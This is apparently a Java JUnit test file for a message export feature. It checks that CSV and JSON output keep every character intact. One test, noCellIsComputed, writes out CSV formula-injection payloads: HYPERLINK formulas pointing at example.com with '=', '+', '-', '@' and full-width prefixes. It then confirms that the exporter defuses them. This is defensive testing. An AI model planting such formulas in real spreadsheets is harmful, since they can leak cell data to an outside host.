package tongtu.messages;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.json.Json;

class MessageExportTest {
    private static final ZoneId ZONE = ZoneId.of("Asia/Shanghai");
    private static final Random RANDOM = new Random(5);

    private static Message message(String words, String contact, Message.@Nullable Answer answer) {
        return new Message(
                Receipt.random(RANDOM),
                new Draft(MessageKind.HELP, "zh-CN", "/services/两项补贴", "abc", null, words, contact),
                null,
                Instant.parse("2026-03-01T16:30:00Z"),
                answer);
    }

    private static String written(MessageExport export, Message... messages) throws IOException {
        var out = new StringBuilder();
        export.begin(out);
        for (var message : messages) {
            export.write(message, out);
        }
        export.end(out);
        return out.toString();
    }

    /// Reads RFC 4180 as its grammar says.
    private static List<List<String>> read(String csv) {
        var rows = new ArrayList<List<String>>();
        var row = new ArrayList<String>();
        int i = 0;
        while (i < csv.length()) {
            assertEquals('"', csv.charAt(i), "a cell begins at " + i);
            var cell = new StringBuilder();
            for (i++; csv.charAt(i) != '"' || csv.startsWith("\"\"", i); i++) {
                cell.append(csv.charAt(i));
                i += csv.startsWith("\"\"", i) ? 1 : 0;
            }
            row.add(cell.toString());
            i++;
            if (csv.startsWith("\r\n", i)) {
                rows.add(List.copyOf(row));
                row.clear();
                i += 2;
            } else {
                assertEquals(',', csv.charAt(i));
                i++;
            }
        }
        assertTrue(row.isEmpty(), "the last line ends");
        return rows;
    }

    @Test
    void aSpreadsheetReadsEveryWord() throws IOException {
        var words = "第一行，\"引号\"\n第二行;，𠮷 é \u0928";
        var answer = new Message.Answer("改好了，谢谢", Instant.parse("2026-03-02T01:00:00Z"));
        var csv = written(new MessageExport.Csv(ZONE), message(words, "", answer));
        assertEquals('\ufeff', csv.charAt(0));
        var rows = read(csv.substring(1));
        assertEquals(2, rows.size());
        assertEquals(rows.get(0).size(), rows.get(1).size());
        var cell = rows.get(1);
        assertEquals(words, cell.get(rows.get(0).indexOf("内容")));
        assertEquals("2026-03-02 00:30", cell.get(rows.get(0).indexOf("收到时间")));
        assertEquals("改好了，谢谢", cell.get(rows.get(0).indexOf("答复")));
        assertEquals("已答复", cell.get(rows.get(0).indexOf("状态")));
        assertEquals("请人帮忙", cell.get(rows.get(0).indexOf("种类")));
    }

    @Test
    void noCellIsComputed() throws IOException {
        for (var begin : List.of("=", "+", "-", "@", "＝", "＋", "－", "＠")) {
            var attack = begin + "HYPERLINK(\"http://example.com/\"&A1)";
            var csv = written(new MessageExport.Csv(ZONE), message(attack, attack, null));
            var rows = read(csv.substring(1));
            for (var cell : rows.get(1)) {
                assertFalse(cell.startsWith(begin), cell);
            }
            assertTrue(rows.get(1).contains("'" + attack), "nothing is lost");
        }
    }

    @Test
    void aProgramReadsEveryWord() throws IOException {
        var words = "一\t二\n\"三\"\\四</script>\u00a0五𠮷\u007f";
        var message = message(words, "小李", null);
        var json = written(new MessageExport.Json(), message, message("二", "", null));
        List<Map<String, Object>> read = new Json().toType(json, Json.LIST_OF_MAPS_TYPE);
        assertEquals(2, read.size());
        assertEquals("一\t二\n\"三\"\\四</script>\u00a0五𠮷", read.get(0).get("words"));
        assertEquals("小李", read.get(0).get("contact"));
        assertEquals("help", read.get(0).get("kind"));
        assertEquals("new", read.get(0).get("state"));
        assertEquals(message.receipt().digits(), read.get(0).get("receipt"));
        assertEquals("2026-03-01T16:30:00Z", read.get(0).get("receivedAt"));
        assertFalse(read.get(1).containsKey("contact"), "what is not there is left out");
    }

    @Test
    void nothingIsAnEmptyListInBoth() throws IOException {
        assertEquals(1, read(written(new MessageExport.Csv(ZONE)).substring(1)).size());
        List<Map<String, Object>> read =
                new Json().toType(written(new MessageExport.Json()), Json.LIST_OF_MAPS_TYPE);
        assertEquals(List.of(), read);
    }
}
